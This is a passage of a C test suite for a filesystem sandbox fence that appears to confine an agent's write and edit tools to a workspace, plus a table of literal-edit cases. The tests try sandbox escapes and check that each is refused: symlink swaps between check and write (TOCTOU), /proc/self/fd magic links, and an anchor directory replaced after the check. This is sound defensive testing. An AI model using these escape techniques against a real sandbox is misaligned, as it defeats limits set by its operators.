{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	dsb_error err = {0};

	assert_int_equal(dsb_fence_check(&p, fx->ws, "dangling-dir/f.txt", &err), 0);
	assert_int_equal(dsb_fence_write(&p, fx->ws, "dangling-dir/f.txt", "x", 1, NULL, &err),
			 -DSB_E_FS_SANDBOX_DENIED);
	assert_int_equal(err.sys_errno, ELOOP);
	assert_absent(fx, "@/out/newdir");
	assert_symlink(fx, "@/ws/dangling-dir");
	assert_outside_untouched(fx);
}

/* A magic link (/proc/self/fd/N) is resolved by the check like any symlink. */
static void test_proc_fd(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	dsb_error err = {0};
	char *out = expand(fx, "@/out");
	int out_fd = open(out, O_PATH | O_DIRECTORY | O_CLOEXEC);
	int ws_fd = open(fx->ws, O_PATH | O_DIRECTORY | O_CLOEXEC);
	assert_true(out_fd >= 0 && ws_fd >= 0);

	char *escape = xasprintf("/proc/self/fd/%d/x.txt", out_fd);
	char *inside = xasprintf("/proc/self/fd/%d/x.txt", ws_fd);
	char *want = xasprintf(DENIED_WW("%s"), escape);
	assert_int_equal(dsb_fence_write(&p, fx->ws, escape, "x", 1, NULL, &err),
			 -DSB_E_FS_SANDBOX_DENIED);
	assert_string_equal(err.message, want);
	assert_int_equal(dsb_fence_write(&p, fx->ws, inside, "x", 1, NULL, &err), 0);
	assert_content(fx, "@/ws/x.txt", "x");
	assert_outside_untouched(fx);
	(void)close(out_fd);
	(void)close(ws_fd);
	free(out);
	free(escape);
	free(inside);
	free(want);
}

/* --- paths swapped between the check and the mutation ---------------------------------------- */

static void swap_for_symlink(const fixture *fx, const char *rel, const char *target)
{
	char *p = expand(fx, rel), *aside = xasprintf("%s.real", p), *t = expand(fx, target);
	assert_int_equal(rename(p, aside), 0);
	assert_int_equal(symlink(t, p), 0);
	free(p);
	free(aside);
	free(t);
}

/*
 * DSH's TOCTOU window (dsh-compat §7.1), made deterministic: the check runs, then an ancestor is
 * swapped for a symlink pointing outside, then the mutation runs with the checked grant. A
 * path-based open() would land in B/out; the openat2 walk refuses the symlink.
 */
static void test_swapped_ancestor(void **state)
{
	/* outside, absolute and relative; and inside: a symlink is refused wherever it points */
	static const char *targets[] = {"@/out", "../out", "sub"};
	const fixture *fx = *state;
	char *d = expand(fx, "@/ws/d"), *aside = expand(fx, "@/ws/d.real");

	for (size_t i = 0; i < sizeof(targets) / sizeof(targets[0]); i++) {
		dsb_exec_policy p = policy_of(fx, WW);
		fence_grant g = {0};
		dsb_error err = {0};

		print_message("ancestor swapped for a symlink to %s\n", targets[i]);
		assert_int_equal(mkdir(d, 0755), 0);
		assert_int_equal(fence_grant_check(&p, fx->ws, "d/f.txt", &g, &err), 0);
		assert_false(g.by_identity);
		assert_string_equal(g.anchor, fx->ws);
		swap_for_symlink(fx, "@/ws/d", targets[i]);

		int r = fence_write_granted(&g, "x", 1, NULL, &err);
		assert_error(r, &err, DSB_E_FS_SANDBOX_DENIED, fx, DENIED_WW("@/ws/d/f.txt"));
		assert_int_equal(err.sys_errno, ELOOP);
		assert_absent(fx, "@/out/f.txt");
		assert_absent(fx, "@/ws/sub/f.txt");
		assert_absent(fx, "@/ws/d.real/f.txt");
		fence_grant_done(&g);
		assert_int_equal(unlink(d), 0);
		assert_int_equal(rmdir(aside), 0);
	}
	free(d);
	free(aside);
	assert_outside_untouched(fx);
	assert_no_temp_files(fx);
}

/* The final component swapped for a symlink after the check: write replaces it; edit refuses. */
static void test_swapped_final(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	fence_grant g = {0};
	dsb_error err = {0};

	assert_int_equal(fence_grant_check(&p, fx->ws, "file.txt", &g, &err), 0);
	swap_for_symlink(fx, "@/ws/file.txt", "@/out/secret");
	assert_int_equal(fence_write_granted(&g, "x", 1, NULL, &err), 0);
	assert_content(fx, "@/ws/file.txt", "x");
	struct stat st;
	char *file = expand(fx, "@/ws/file.txt");
	assert_int_equal(lstat(file, &st), 0);
	assert_true(S_ISREG(st.st_mode));
	assert_int_equal(unlink(file), 0);
	free(file);
	char *aside = expand(fx, "@/ws/file.txt.real");
	assert_int_equal(unlink(aside), 0);
	free(aside);
	fence_grant_done(&g);
	assert_outside_untouched(fx);
}

/*
 * A root known by another spelling (here B/alias -> B/ws; in life a bind mount) matches by
 * identity; the mutation is anchored at the key's ancestor with that identity, and a directory
 * swapped in under the anchor's name after the check is refused.
 */
static void test_identity_anchor(void **state)
{
	const fixture *fx = *state;
	char *alias = expand(fx, "@/alias");
	char *roots[] = {alias, NULL};
	dsb_exec_policy p = policy_of(fx, WW);
	fence_grant g = {0};
	dsb_error err = {0};

	assert_int_equal(fence_grant_check_roots(&p, roots, fx->ws, "new/x.txt", &g, &err), 0);
	assert_true(g.by_identity);
	assert_string_equal(g.anchor, fx->ws);
	assert_int_equal(fence_write_granted(&g, "x", 1, NULL, &err), 0);
	assert_content(fx, "@/ws/new/x.txt", "x");
	fence_grant_done(&g);

	/* outside the alias: denied */
	char *outside = expand(fx, "@/out/x");
	assert_int_equal(fence_grant_check_roots(&p, roots, fx->ws, outside, &g, &err),
			 -DSB_E_FS_SANDBOX_DENIED);
	free(outside);

	/* W replaced by another directory after the check: its identity is not the root's */
	assert_int_equal(fence_grant_check_roots(&p, roots, fx->ws, "y.txt", &g, &err), 0);
	char *ws = expand(fx, "@/ws"), *aside = expand(fx, "@/ws-old");
	assert_int_equal(rename(ws, aside), 0);
	assert_int_equal(mkdir(ws, 0755), 0);
	int r = fence_write_granted(&g, "y", 1, NULL, &err);
	assert_error(r, &err, DSB_E_FS_SANDBOX_DENIED, fx, DENIED_WW("@/ws/y.txt"));
	assert_int_equal(err.sys_errno, EXDEV);
	assert_absent(fx, "@/ws/y.txt");
	assert_absent(fx, "@/ws-old/y.txt");
	assert_int_equal(rmdir(ws), 0);
	assert_int_equal(rename(aside, ws), 0);
	fence_grant_done(&g);
	free(ws);
	free(aside);
	free(alias);
}

/* --- the kernel's own refusals -----------------------------------------------------------------
 */

#define CHILD_EXPECT(cond)                                                                      \
	do {                                                                                    \
		if (!(cond)) {                                                                  \
			fprintf(stderr, "%s:%d: expected %s (%s)\n", __FILE__, __LINE__, #cond, \
				err.message);                                                   \
			return 1;                                                               \
		}                                                                               \
	} while (0)

static int child_permission(void *arg)
{
	const fixture *fx = arg;
	dsb_exec_policy p = policy_of(fx, WW);
	dsb_error err = {0};
	char want[PATH_MAX * 2];

	if (geteuid() == 0 && (setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534)))
		return 2;
	int r = dsb_fence_write(&p, fx->ws, "locked/x.txt", "x", 1, NULL, &err);
	(void)snprintf(want, sizeof(want), "cannot write \"%s/locked/x.txt\": permission denied",
		       fx->ws);
	CHILD_EXPECT(r == -DSB_E_FS_PERMISSION_DENIED);
	CHILD_EXPECT(strcmp(err.message, want) == 0);
	CHILD_EXPECT(err.sys_errno == EACCES);
	r = dsb_fence_write(&p, fx->ws, "locked/dir/x.txt", "x", 1, NULL, &err);
	CHILD_EXPECT(r == -DSB_E_FS_PERMISSION_DENIED);
	r = dsb_fence_edit(&p, fx->ws, "locked/ro.txt", "ro", "rw", false, NULL, &err);
	CHILD_EXPECT(r == -DSB_E_FS_PERMISSION_DENIED);
	(void)snprintf(want, sizeof(want), "cannot edit \"%s/locked/ro.txt\": permission denied",
		       fx->ws);
	CHILD_EXPECT(strcmp(err.message, want) == 0);
	return 0;
}

/* EACCES from the kernel is FS_PERMISSION_DENIED, never FS_SANDBOX_DENIED (§7.5). */
static void test_permission_denied(void **state)
{
	const fixture *fx = *state;

	if (geteuid() == 0 && !others_can_reach(fx->ws)) {
		print_message("the fixture is not reachable by nobody; skipping\n");
		skip();
	}
	make_dir(fx, "@/ws/locked");
	put(fx, "@/ws/locked/ro.txt", "ro", 0444);
	char *locked = expand(fx, "@/ws/locked");
	assert_int_equal(chmod(locked, 0555), 0);
	int status = dsb_test_run_in_child(child_permission, (void *)fx);
	assert_int_equal(chmod(locked, 0755), 0);
	free(locked);
	assert_int_equal(status, 0);
	assert_absent(fx, "@/ws/locked/x.txt");
	assert_absent(fx, "@/ws/locked/dir");
	assert_content(fx, "@/ws/locked/ro.txt", "ro");
}

/* What a kernel without openat2 must give: the fenced mutations fail closed, nothing else. */
static int expect_fail_closed(const fixture *fx)
{
	dsb_exec_policy ww = policy_of(fx, WW), dfa = policy_of(fx, DFA);
	dsb_error err = {0};
	char path[PATH_MAX];

	int r = dsb_fence_write(&ww, fx->ws, "nested/x.txt", "x", 1, NULL, &err);
	CHILD_EXPECT(r == -DSB_E_FENCE_UNAVAILABLE);
	CHILD_EXPECT(strcmp(err.message,
			    "the fs fence needs openat2 (Linux 5.6+); nothing was written") == 0);
	r = dsb_fence_edit(&ww, fx->ws, "file.txt", "original", "x", false, NULL, &err);
	CHILD_EXPECT(r == -DSB_E_FENCE_UNAVAILABLE);
	/* the check itself needs no openat2, nor does unfenced danger-full-access */
	CHILD_EXPECT(dsb_fence_check(&ww, fx->ws, "x", &err) == 0);
	(void)snprintf(path, sizeof(path), "%s/dfa.txt", fx->ws);
	CHILD_EXPECT(dsb_fence_write(&dfa, fx->ws, path, "d", 1, NULL, &err) == 0);
	return 0;
}

static int child_no_openat2(const fixture *fx, int hidden_with)
{
	if (dsb_test_hide_openat2(hidden_with))
		return 2;
	return expect_fail_closed(fx);
}

static int child_enosys(void *arg)
{
	const fixture *fx = arg;
	return child_no_openat2(fx, ENOSYS);
}

static int child_eperm(void *arg)
{
	const fixture *fx = arg;
	return child_no_openat2(fx, EPERM);
}

/*
 * A replacement needs what writing in place needs (issue 13 item 2). As nobody: a root-owned
 * 0444 file in a directory nobody may write is refused by write and edit, and unchanged; a
 * file nobody may write but owned by someone else is refused too, never re-owned.
 */
static int child_replace_foreign(void *arg)
{
	const fixture *fx = arg;
	dsb_exec_policy p = policy_of(fx, WW);
	dsb_error err = {0};
	char want[PATH_MAX * 2];

	if (setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534))
		return 2;
	int r = dsb_fence_write(&p, fx->ws, "open/root-ro.txt", "mine", 4, NULL, &err);
	(void)snprintf(want, sizeof(want),
		       "cannot write \"%s/open/root-ro.txt\": permission denied", fx->ws);
	CHILD_EXPECT(r == -DSB_E_FS_PERMISSION_DENIED);
	CHILD_EXPECT(strcmp(err.message, want) == 0);
	r = dsb_fence_edit(&p, fx->ws, "open/root-ro.txt", "root", "mine", false, NULL, &err);
	CHILD_EXPECT(r == -DSB_E_FS_PERMISSION_DENIED);
	/* writable by others, but root's: replacing it would re-own it */
	r = dsb_fence_write(&p, fx->ws, "open/root-rw.txt", "mine", 4, NULL, &err);
	(void)snprintf(want, sizeof(want),
		       "cannot write \"%s/open/root-rw.txt\": permission denied", fx->ws);
	CHILD_EXPECT(r == -DSB_E_FS_PERMISSION_DENIED);
	CHILD_EXPECT(strcmp(err.message, want) == 0);
	r = dsb_fence_edit(&p, fx->ws, "open/root-rw.txt", "root", "mine", false, NULL, &err);
	CHILD_EXPECT(r == -DSB_E_FS_PERMISSION_DENIED);
	/* its own file is replaced as before */
	r = dsb_fence_write(&p, fx->ws, "open/mine.txt", "new", 3, NULL, &err);
	CHILD_EXPECT(r == 0);
	return 0;
}

static void test_replace_keeps_owner(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	dsb_error err = {0};
	struct stat st;

	if (geteuid() != 0 || !others_can_reach(fx->ws)) {
		print_message("needs root and a fixture nobody can reach; skipping\n");
		skip();
	}
	/* As root: a file owned by nobody keeps its owner, group and mode through both. */
	char *theirs = expand(fx, "@/ws/theirs.txt");
	put(fx, "@/ws/theirs.txt", "theirs", 0640);
	assert_int_equal(chown(theirs, 65534, 65534), 0);
	assert_int_equal(dsb_fence_write(&p, fx->ws, "theirs.txt", "replaced", 8, NULL, &err), 0);
	assert_int_equal(stat(theirs, &st), 0);
	assert_int_equal(st.st_uid, 65534);
	assert_int_equal(st.st_gid, 65534);
	assert_int_equal(st.st_mode & 07777, 0640);
	assert_int_equal(
		dsb_fence_edit(&p, fx->ws, "theirs.txt", "replaced", "edited", false, NULL, &err),
		0);
	assert_int_equal(stat(theirs, &st), 0);
	assert_int_equal(st.st_uid, 65534);
	assert_int_equal(st.st_mode & 07777, 0640);
	assert_content(fx, "@/ws/theirs.txt", "edited");
	free(theirs);

	/* As nobody, in a directory nobody may write. */
	make_dir(fx, "@/ws/open");
	char *open_dir = expand(fx, "@/ws/open"), *mine = expand(fx, "@/ws/open/mine.txt");
	assert_int_equal(chmod(open_dir, 0777), 0);
	put(fx, "@/ws/open/root-ro.txt", "root", 0444);
	put(fx, "@/ws/open/root-rw.txt", "root", 0666);
	put(fx, "@/ws/open/mine.txt", "old", 0644);
	assert_int_equal(chown(mine, 65534, 65534), 0);
	int status = dsb_test_run_in_child(child_replace_foreign, (void *)fx);
	assert_int_equal(status, 0);
	assert_content(fx, "@/ws/open/root-ro.txt", "root");
	assert_content(fx, "@/ws/open/root-rw.txt", "root");
	assert_content(fx, "@/ws/open/mine.txt", "new");
	char *ro = expand(fx, "@/ws/open/root-ro.txt");
	assert_int_equal(stat(ro, &st), 0);
	assert_int_equal(st.st_uid, 0);
	assert_int_equal(st.st_mode & 07777, 0444);
	assert_no_temp_files(fx);
	free(ro);
	free(open_dir);
	free(mine);
}

/* The owner's own read-only file: writing it in place is refused, and so is replacing it. */
static void test_replace_read_only_file(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	dsb_error err = {0};

	if (geteuid() == 0) {
		print_message("root writes any file; see test_replace_keeps_owner\n");
		skip();
	}
	put(fx, "@/ws/ro.txt", "ro", 0444);
	assert_int_equal(dsb_fence_write(&p, fx->ws, "ro.txt", "x", 1, NULL, &err),
			 -DSB_E_FS_PERMISSION_DENIED);
	assert_error(-DSB_E_FS_PERMISSION_DENIED, &err, DSB_E_FS_PERMISSION_DENIED, fx,
		     "cannot write \"@/ws/ro.txt\": permission denied");
	assert_int_equal(dsb_fence_edit(&p, fx->ws, "ro.txt", "ro", "rw", false, NULL, &err),
			 -DSB_E_FS_PERMISSION_DENIED);
	assert_error(-DSB_E_FS_PERMISSION_DENIED, &err, DSB_E_FS_PERMISSION_DENIED, fx,
		     "cannot edit \"@/ws/ro.txt\": permission denied");
	assert_content(fx, "@/ws/ro.txt", "ro");
}

/*
 * The last look before the rename (issue 13 item 1): a version changed since it was locked,
 * by a writer that does not take the lock, is FS_STALE_VERSION and nothing is renamed.
 */
static void test_stale_version(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	fence_grant g = {.mode = _DSB_MODE_INVALID};
	dsb_error err = {0};
	char name[NAME_MAX + 1];
	int dirfd = -1;

	put(fx, "@/ws/v.txt", "one", 0644);
	assert_int_equal(fence_grant_check(&p, fx->ws, "v.txt", &g, &err), 0);
	const fence_op op = {.verb = "edit", .grant = &g};
	assert_int_equal(fence_open_parent(&op, false, &dirfd, name, &err), 0);

	fence_lock lk = FENCE_LOCK_INIT;
	assert_int_equal(fence_lock_target(&op, dirfd, name, O_RDWR, &lk, &err), 0);
	assert_true(lk.fd >= 0);
	/* changed in place behind the lock's back */
	put(fx, "@/ws/v.txt", "two!", 0644);
	assert_int_equal(fence_replace_at(&op, dirfd, name, "three", 5, &lk, &err),
			 -DSB_E_FS_STALE_VERSION);
	assert_error(-DSB_E_FS_STALE_VERSION, &err, DSB_E_FS_STALE_VERSION, fx,
		     "cannot edit \"@/ws/v.txt\": the file changed since it was read");
	assert_content(fx, "@/ws/v.txt", "two!");
	fence_lock_done(&lk);

	/* renamed over behind its back */
	assert_int_equal(fence_lock_target(&op, dirfd, name, O_RDWR, &lk, &err), 0);
	char *v = expand(fx, "@/ws/v.txt"), *w = expand(fx, "@/ws/w.txt");
	put(fx, "@/ws/w.txt", "four", 0644);
	assert_int_equal(rename(w, v), 0);
	assert_int_equal(fence_replace_at(&op, dirfd, name, "three", 5, &lk, &err),
			 -DSB_E_FS_STALE_VERSION);
	assert_content(fx, "@/ws/v.txt", "four");
	fence_lock_done(&lk);

	/* the lock is exclusive: a second holder waits (here: would block) */
	assert_int_equal(fence_lock_target(&op, dirfd, name, O_RDWR, &lk, &err), 0);
	int other = open(v, O_RDONLY | O_CLOEXEC);
	assert_true(other >= 0);
	assert_int_equal(flock(other, LOCK_EX | LOCK_NB), -1);
	assert_int_equal(errno, EWOULDBLOCK);
	assert_int_equal(fence_replace_at(&op, dirfd, name, "five", 4, &lk, &err), 0);
	fence_lock_done(&lk);
	assert_int_equal(close(other), 0);
	assert_content(fx, "@/ws/v.txt", "five");
	assert_no_temp_files(fx);
	(void)close(dirfd);
	fence_grant_done(&g);
	free(v);
	free(w);
}

/* No openat2: fail closed before anything is made (STYLE §3.7: never a weaker fallback). */
static void test_fence_unavailable(void **state)
{
	const fixture *fx = *state;

#if !defined(__x86_64__) && !defined(__aarch64__)
	skip(); /* dsb_test_hide_openat2() knows these architectures only */
#endif
	assert_int_equal(dsb_test_run_in_child(child_enosys, (void *)fx), 0);
	assert_absent(fx, "@/ws/nested");
	assert_content(fx, "@/ws/file.txt", "original\n");
	assert_content(fx, "@/ws/dfa.txt", "d");
	char *dfa = expand(fx, "@/ws/dfa.txt");
	assert_int_equal(unlink(dfa), 0);
	free(dfa);
	/* a filter that answers EPERM (Docker before 20.10) is recognised as the same */
	assert_int_equal(dsb_test_run_in_child(child_eperm, (void *)fx), 0);
	assert_absent(fx, "@/ws/nested");
	assert_content(fx, "@/ws/file.txt", "original\n");
}

/* Under a kernel (or the no-openat2 shim) without openat2: the whole of what still holds. */
static void test_fail_closed_here(void **state)
{
	const fixture *fx = *state;

	assert_int_equal(expect_fail_closed(fx), 0);
	assert_absent(fx, "@/ws/nested");
	assert_content(fx, "@/ws/file.txt", "original\n");
	assert_outside_untouched(fx);
}

static bool have_openat2(void)
{
	uint64_t how[3] = {O_PATH | O_CLOEXEC, 0, 0};
	long fd = syscall(__NR_openat2, AT_FDCWD, "/", how, sizeof(how));

	if (fd >= 0)
		(void)close((int)fd);
	return fd >= 0;
}

/* --- edit (dsh-compat §7.2, fsio.ts applyLiteralEdit/readForEdit)
 * --------------------------------- */

typedef struct edit_case {
	const char *name;
	dsb_mode mode;
	const char *path;    /* default "@/ws/e.txt" */
	const char *initial; /* written to path first, unless NULL */
	size_t initial_len;  /* 0: strlen */
	const char *old, *new;
	bool all;
	dsb_code code;
	const char *message;
	const char *after; /* NULL: the file is unchanged */
	size_t replacements;
	const char *check; /* another file and its content after: "PATH=CONTENT" */
} edit_case;

#define E_TXT "@/ws/e.txt"

static const edit_case edit_cases[] = {
	/* the fence (§11.23 #3, #11, #12) */
	{.name = "ro edit",
	 .mode = RO,
	 .initial = "original",
	 .old = "original",
	 .new = "changed",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_RO(E_TXT)},
	{.name = "ww edit outside",
	 .mode = WW,
	 .path = "@/out/secret",
	 .old = "secret",
	 .new = "x",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/out/secret"),
	 .check = "@/out/secret=secret\n"},
	{.name = "ww edit through final symlink out",
	 .mode = WW,
	 .path = "@/ws/final-out",
	 .old = "secret",
	 .new = "x",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/ws/final-out"),
	 .check = "@/out/secret=secret\n"},
	{.name = "ww edit inside",
	 .mode = WW,
	 .initial = "original",
	 .old = "original",
	 .new = "changed",
	 .after = "changed",
	 .replacements = 1},
	{.name = "ww edit through final symlink in",
	 .mode = WW,
	 .path = "@/ws/final-in",
	 .old = "original",
	 .new = "changed",
	 .after = "changed\n",
	 .replacements = 1,
	 .check = "@/ws/file.txt=changed\n"},
	{.name = "dfa edit outside",
	 .mode = DFA,
	 .path = "@/out/secret",
	 .old = "secret",
	 .new = "public",
	 .after = "public\n",
	 .replacements = 1},
	/* argument rules: before the policy, in DSH's order */
	{.name = "empty old",
	 .mode = WW,
	 .initial = "abc",
	 .old = "",
	 .new = "x",
	 .code = DSB_E_FS_EDIT_NOT_FOUND,
	 .message = "old_string must be a non-empty string"},
	{.name = "identical",
	 .mode = WW,
	 .initial = "abc",
	 .old = "b",
	 .new = "b",
	 .code = DSB_E_INVALID_ARGS,
	 .message = "old_string and new_string must differ"},
	{.name = "identical under read-only",
	 .mode = RO,
	 .initial = "abc",
	 .old = "b",
	 .new = "b",
	 .code = DSB_E_INVALID_ARGS,
	 .message = "old_string and new_string must differ"},
	{.name = "blank path",
	 .mode = WW,
	 .path = " ",
	 .old = "a",
	 .new = "b",
	 .code = DSB_E_FS_NOT_FOUND,
	 .message = "file_path must be a non-empty string"},
	/* literal matching */
	{.name = "unique",
	 .mode = WW,
	 .initial = "a b c",
	 .old = "b",
	 .new = "X",
	 .after = "a X c",
	 .replacements = 1},
	{.name = "not found",
	 .mode = WW,
	 .initial = "a b c",
	 .old = "z",
	 .new = "X",
	 .code = DSB_E_FS_EDIT_NOT_FOUND,
	 .message = "old_string was not found in \"" E_TXT "\""},
	{.name = "ambiguous",
	 .mode = WW,
	 .initial = "a a a",
	 .old = "a",
	 .new = "X",
	 .code = DSB_E_FS_AMBIGUOUS_EDIT,
	 .message = "old_string matched 3 times in \"" E_TXT
		    "\"; provide a more specific old_string or set "
		    "replace_all to true"},
	{.name = "replace_all",
	 .mode = WW,
	 .initial = "a a a",
	 .old = "a",
	 .new = "X",
	 .all = true,
	 .after = "X X X",
	 .replacements = 3},
	{.name = "replace_all once",
	 .mode = WW,
	 .initial = "a b c",
	 .old = "b",
	 .new = "X",
	 .all = true,
	 .after = "a X c",
	 .replacements = 1},
	{.name = "replace_all not found",
	 .mode = WW,
	 .initial = "a b c",
	 .old = "z",
	 .new = "X",
	 .all = true,
	 .code = DSB_E_FS_EDIT_NOT_FOUND,
	 .message = "old_string was not found in \"" E_TXT "\""},
	{.name = "non-overlapping",
	 .mode = WW,
	 .initial = "aaa",
	 .old = "aa",
	 .new = "b",
	 .after = "ba",
	 .replacements = 1},
	{.name = "non-overlapping all",
	 .mode = WW,
	 .initial = "aaaa",
	 .old = "aa",
	 .new = "b",
	 .all = true,
	 .after = "bb",
	 .replacements = 2},
	{.name = "delete",
	 .mode = WW,
	 .initial = "keep drop keep",
	 .old = " drop",
	 .new = "",
	 .after = "keep keep",
	 .replacements = 1},
	{.name = "grow all",
	 .mode = WW,
	 .initial = "x.x.x",
	 .old = ".",
	 .new = "<->",
	 .all = true,
	 .after = "x<->x<->x",
	 .replacements = 2},
	{.name = "unicode",
	 .mode = WW,
	 .initial = "h\xc3\xa9llo w\xc3\xb6rld",
	 .old = "\xc3\xb6",
	 .new = "o",
	 .after = "h\xc3\xa9llo world",
	 .replacements = 1},
	{.name = "ill-formed old decodes to U+FFFD",
	 .mode = WW,
	 .initial = "a\xef\xbf\xbd"
		    "b",
	 .old = "\xff",
	 .new = "-",
	 .after = "a-b",
	 .replacements = 1},
	/* line endings: matched on LF, restored */
	{.name = "crlf",
	 .mode = WW,
	 .initial = "one\r\ntwo\r\n",
	 .old = "two",
	 .new = "TWO",
	 .after = "one\r\nTWO\r\n",
	 .replacements = 1},
	{.name = "crlf across lines",
	 .mode = WW,
	 .initial = "one\r\ntwo\r\n",
	 .old = "one\ntwo",
	 .new = "x",
	 .after = "x\r\n",
	 .replacements = 1},
	{.name = "crlf in old",
	 .mode = WW,
	 .initial = "one\ntwo",
	 .old = "one\r\ntwo",
	 .new = "x",
	 .after = "x",
	 .replacements = 1},
	{.name = "crlf new lines",
	 .mode = WW,
	 .initial = "a\r\nb\r\n",
	 .old = "a",
	 .new = "1\n2",
	 .after = "1\r\n2\r\nb\r\n",
	 .replacements = 1},
	/*
	 * Mixed line endings (beyond DSH, whose restore rewrites every line to the majority's
	 * ending): matched as DSH matches, but only the matched bytes change; the new text takes
	 * the majority's ending, every other line keeps its own.
	 */
	{.name = "lf majority: only the match changes",
	 .mode = WW,
	 .initial = "a\nb\nc\r\n",
	 .old = "c",
	 .new = "C",
	 .after = "a\nb\nC\r\n",
	 .replacements = 1},
	{.name = "crlf majority: only the match changes",
	 .mode = WW,
	 .initial = "a\r\nb\r\nc\n",
	 .old = "a",
	 .new = "A",
	 .after = "A\r\nb\r\nc\n",
	 .replacements = 1},
	{.name = "mixed: new lines take the majority's ending",
	 .mode = WW,
	 .initial = "a\r\nb\r\nc\n",
	 .old = "c",
	 .new = "c1\nc2",
	 .after = "a\r\nb\r\nc1\r\nc2\n",
	 .replacements = 1},
	{.name = "mixed: a match across a crlf replaces it",
	 .mode = WW,
	 .initial = "a\r\nb\nc\nd\n",
	 .old = "a\nb",
	 .new = "x",
	 .after = "x\nc\nd\n",
	 .replacements = 1},
	{.name = "mixed: replace_all keeps each line's ending",
	 .mode = WW,
	 .initial = "x\r\nx\nx\r\n\r\r\nx",
	 .old = "x",
	 .new = "y",
	 .all = true,
	 .after = "y\r\ny\ny\r\n\r\r\ny",
	 .replacements = 4},
	{.name = "mixed: a lone cr before a crlf",
	 .mode = WW,
	 .initial = "a\r\r\nb\n",
	 .old = "a\r",
	 .new = "z",
	 .after = "z\r\nb\n",
	 .replacements = 1},
	{.name = "lone cr",
	 .mode = WW,
	 .initial = "a\rb",
	 .old = "b",
	 .new = "c",
	 .after = "a\rc",
	 .replacements = 1},
	{.name = "crlf identical after normalising",
	 .mode = WW,
	 .initial = "x\r\ny",
	 .old = "x\r\ny",
	 .new = "x\ny",
	 .after = "x\r\ny",
	 .replacements = 1},
	/* a BOM: matched without it (as TextDecoder drops it), kept on write-back */
	{.name = "bom kept",
	 .mode = WW,
	 .initial = "\xef\xbb\xbfhello",
	 .old = "hello",
	 .new = "bye",
	 .after = "\xef\xbb\xbf"
		  "bye",
	 .replacements = 1},
	{.name = "bom not matchable",
	 .mode = WW,
	 .initial = "\xef\xbb\xbfhello",
	 .old = "\xef\xbb\xbfhello",
	 .new = "bye",
	 .code = DSB_E_FS_EDIT_NOT_FOUND,
	 .message = "old_string was not found in \"" E_TXT "\""},
	/* text only */
	{.name = "binary",
	 .mode = WW,
	 .initial = "a\0b",
	 .initial_len = 3,
	 .old = "a",
	 .new = "x",
	 .code = DSB_E_FS_NOT_TEXT,
	 .message = "cannot edit \"" E_TXT "\": binary file"},
	{.name = "invalid utf-8",
	 .mode = WW,
	 .initial = "h\xffi",
	 .old = "h",
	 .new = "x",
	 .code = DSB_E_FS_NOT_TEXT,
	 .message = "cannot edit \"" E_TXT "\": invalid UTF-8 text"},
	{.name = "surrogate",
	 .mode = WW,
	 .initial = "a\xed\xa0\x80",
	 .old = "a",
	 .new = "x",
	 .code = DSB_E_FS_NOT_TEXT,
	 .message = "cannot edit \"" E_TXT "\": invalid UTF-8 text"},
	{.name = "overlong",
	 .mode = WW,
	 .initial = "a\xc0\xaf",
	 .old = "a",
	 .new = "x",
	 .code = DSB_E_FS_NOT_TEXT,
	 .message = "cannot edit \"" E_TXT "\": invalid UTF-8 text"},
	/* what is not a regular file, or not there */
	{.name = "missing",
	 .mode = WW,
	 .path = "@/ws/none.txt",
	 .old = "a",
	 .new = "b",
	 .code = DSB_E_FS_NOT_FOUND,
	 .message = "cannot edit \"@/ws/none.txt\": not found"},
	{.name = "missing parent",
	 .mode = WW,
	 .path = "@/ws/nodir/none.txt",
	 .old = "a",
	 .new = "b",
	 .code = DSB_E_FS_NOT_FOUND,
	 .message = "cannot edit \"@/ws/nodir/none.txt\": not found"},
	{.name = "dangling final symlink",
	 .mode = WW,
	 .path = "@/ws/dangling-out",
	 .old = "a",
	 .new = "b",
	 .code = DSB_E_FS_NOT_FOUND,
	 .message = "cannot edit \"@/ws/dangling-out\": not found"},
	{.name = "directory",
	 .mode = WW,
	 .path = "@/ws/sub",
	 .old = "a",
	 .new = "b",
	 .code = DSB_E_FS_NOT_REGULAR_FILE,
	 .message = "cannot edit \"@/ws/sub\": not a regular file"},
	{.name = "root itself",
	 .mode = WW,
	 .path = "@/ws",
	 .old = "a",
	 .new = "b",
	 .code = DSB_E_FS_NOT_REGULAR_FILE,
	 .message = "cannot edit \"@/ws\": not a regular file"},
};

static void test_edit_table(void **state)
{
	for (size_t i = 0; i < sizeof(edit_cases) / sizeof(edit_cases[0]); i++) {
		const edit_case *c = &edit_cases[i];

		print_message("edit: %s\n", c->name);
		assert_int_equal(teardown(state), 0);
		assert_int_equal(setup(state), 0);
		const fixture *fx = *state;

		char *path = expand(fx, c->path ? c->path : E_TXT);
		size_t initial_len =
			c->initial_len ? c->initial_len : (c->initial ? strlen(c->initial) : 0);
		if (c->initial)
			dsb_test_write_file(path, c->initial, initial_len);
		size_t before_len = 0;
		char *before = dsb_test_read_file(path, &before_len);

		dsb_exec_policy p = policy_of(fx, c->mode);
		dsb_fs_edit_result res = {NULL, false, 0};
		dsb_error err = {0};
		int r = dsb_fence_edit(&p, fx->ws, path, c->old, c->new, c->all, &res, &err);
		assert_error(r, &err, c->code, fx, c->message);

		size_t after_len = 0;
		char *after = dsb_test_read_file(path, &after_len);
		if (c->after) {
			assert_non_null(after);
			assert_int_equal(after_len, strlen(c->after));
			assert_memory_equal(after, c->after, after_len);
		} else if (before) {
			assert_int_equal(after_len, before_len);
			assert_memory_equal(after, before, before_len);
		} else {
			assert_null(after);
		}
		if (c->code == DSB_OK) {
			assert_int_equal(res.replacements, c->replacements);
			assert_int_equal(res.replaced_all, c->all);
			assert_string_equal(res.display_path, path);
		} else {
			assert_null(res.display_path);
		}
		if (c->check) {
			char *check = expand(fx, c->check), *eq = strchr(check, '=');
			*eq = '\0';
